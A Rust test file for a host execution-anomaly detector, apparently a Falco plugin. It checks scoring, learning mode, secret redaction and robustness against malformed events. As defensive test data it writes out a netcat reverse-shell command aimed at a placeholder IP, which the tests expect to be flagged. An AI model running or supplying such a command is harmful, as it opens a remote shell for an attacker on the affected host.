//! Fields on the execution's own event.

use crate::support::{Exec, Host, config, exec, execveat};

/// A service's routine, learned.
fn learned(host: &mut Host) {
    for pid in 100..120 {
        for line in ["/usr/bin/logrotate /etc/logrotate.conf", "/usr/bin/find /tmp -mtime +7 -delete"] {
            host.event(exec(pid, 1, line).event());
        }
    }
}

fn host() -> (tempfile::TempDir, Host) {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 20));
    learned(&mut host);
    (directory, host)
}

#[test]
fn while_it_learns_there_is_no_score_and_the_level_says_so() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 1_000));
    let event = host.event(exec(100, 1, "/usr/bin/id").event());
    for absent in ["score", "score_permille", "distance", "smoothed", "novel", "first", "reason", "nearest"] {
        assert_eq!(host.field(&event, &format!("anomaly.{absent}")), None, "{absent}");
    }
    assert_eq!(host.field(&event, "anomaly.level").as_deref(), Some("learning"));
    assert_eq!(host.field(&event, "anomaly.workload").as_deref(), Some("host"));
    assert_eq!(host.field(&event, "anomaly.seen").as_deref(), Some("1"));
}

#[test]
fn what_is_learned_scores_nothing_and_what_is_new_says_why() {
    let (_directory, mut host) = host();
    let event = host.event(exec(200, 1, "/usr/bin/find /tmp -mtime +7 -delete").event());
    assert_eq!(host.field(&event, "anomaly.score").as_deref(), Some("0.0000"));
    assert_eq!(host.field(&event, "anomaly.level").as_deref(), Some("normal"));
    assert_eq!(host.field(&event, "anomaly.reason"), None);

    let event = host.event(exec(201, 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4444").event());
    let score = host.field(&event, "anomaly.score").expect("a score");
    assert!(score.as_str() >= "0.8500" && score.len() == 6, "{score}");
    let permille: u32 =
        host.field(&event, "anomaly.score_permille").expect("a number").parse().expect("digits");
    assert_eq!(permille, score.replace('.', "").parse::<u32>().expect("digits") / 10);
    for (field, value) in [("novel", "true"), ("first", "true"), ("seen", "1"), ("workload", "host")] {
        assert_eq!(host.field(&event, &format!("anomaly.{field}")).as_deref(), Some(value), "{field}");
    }
    let level = host.field(&event, "anomaly.level").expect("a level");
    assert!(["warn", "critical"].contains(&&*level), "{level}");
    for text in ["reason", "nearest"] {
        let text = host.field(&event, &format!("anomaly.{text}")).expect("an explanation");
        assert!((1..=200).contains(&text.len()), "{text}");
    }
    for decimal in ["distance", "smoothed", "threshold"] {
        let value = host.field(&event, &format!("anomaly.{decimal}")).expect("a number");
        assert!(value.len() == 6 && value.as_bytes()[1] == b'.', "{decimal} is {value}");
    }
    // The next of its alert group is not the first any more.
    let event = host.event(exec(202, 1, "/usr/bin/nc -e /bin/sh 203.0.113.7 4445").event());
    assert_eq!(host.field(&event, "anomaly.first").as_deref(), Some("false"));
}

#[test]
fn what_ran_is_told_without_its_secrets() {
    let (_directory, mut host) = host();
    let long = format!("/usr/bin/curl --password hunter2 -o {}", "x".repeat(1_000));
    let event = host.event(Exec { uid: 33, ..exec(200, 100, &long) }.event());
    for (field, value) in [("name", "curl"), ("parent", "find"), ("pid", "200"), ("uid", "33")] {
        assert_eq!(host.field(&event, &format!("anomaly.proc_{field}")).as_deref(), Some(value), "{field}");
    }
    let line = host.field(&event, "anomaly.proc_cmdline").expect("a command line");
    assert!(line.starts_with("/usr/bin/curl --password ") && !line.contains("hunter2"), "{line}");
    assert!(line.len() <= 200, "{line}");
}

#[test]
fn every_way_to_execute_is_heard_and_a_failure_is_none() {
    let (_directory, mut host) = host();
    assert!(host.score(&execveat(200, 1, "/usr/bin/nc -l 1")).is_some());
    let before = host.metric("falco_executions");
    let failed = Exec { result: -2, ..exec(201, 1, "/usr/bin/nc -l 1") };
    assert_eq!(host.score(&failed), None);
    assert_eq!(host.metric("falco_executions"), before);
}

#[test]
fn a_script_is_known_whatever_the_kernel_made_of_its_arguments() {
    let directory = tempfile::tempdir().expect("a directory");
    let mut host = Host::new(&config(directory.path(), 10));
    let script = |pid| Exec { name: "pip".into(), ..exec(pid, 1, "/usr/bin/python3 /usr/bin/pip freeze") };
    for pid in 100..120 {
        host.event(script(pid).event());
    }
    assert_eq!(host.score(&script(300)).as_deref(), Some("0.0000"));
    // As a recording or another feed has it: the arguments that were passed to exec.
    let passed = Exec { executable: "/usr/bin/python3".into(), ..exec(301, 1, "/usr/bin/pip freeze") };
    assert_eq!(host.score(&passed).as_deref(), Some("0.0000"));
}

#[test]
fn surroundings_come_from_the_event() {
    let (_directory, mut host) = host();
    let line = "/usr/bin/find /tmp -mtime +7 -delete";
    let in_memory = Exec { flags: 1 << 2, ..exec(200, 1, line) };
    let score = host.score(&in_memory).expect("a score");
    assert!(score.as_str() > "0.0000", "an executable in memory alone was never seen: {score}");
}

#[test]
fn an_execution_without_arguments_or_names_is_survived() {
    let (_directory, mut host) = host();
    let nothing =
        Exec { arguments: vec![], name: String::new(), executable: String::new(), ..exec(200, 0, "x") };
    assert!(host.score(&nothing).is_some());
    let long = "x".repeat(60_000);
    assert!(host.score(&exec(201, 1, &format!("/bin/echo {long}"))).is_some());
    let control = host.event(exec(202, 1, "/bin/echo \u{1b}[2J\u{202e}").event());
    let reason = host.field(&control, "anomaly.reason").unwrap_or_default();
    assert!(!reason.chars().any(char::is_control), "{reason:?}");
}

#[test]
fn an_event_that_is_cut_short_is_survived() {
    let (_directory, mut host) = host();
    let whole = exec(200, 1, "/usr/bin/id -u").event();
    for length in 26..whole.len().min(400) {
        let mut cut = whole[..length].to_vec();
        cut[16..20].copy_from_slice(&(length as u32).to_ne_bytes());
        crate::support::push(cut);
        // The host itself may refuse it; ours may not fall.
        let _ = host.next();
    }
    assert_eq!(host.metric("panics"), 0);
    assert!(host.score(&exec(201, 1, "/usr/bin/id -u")).is_some());
}
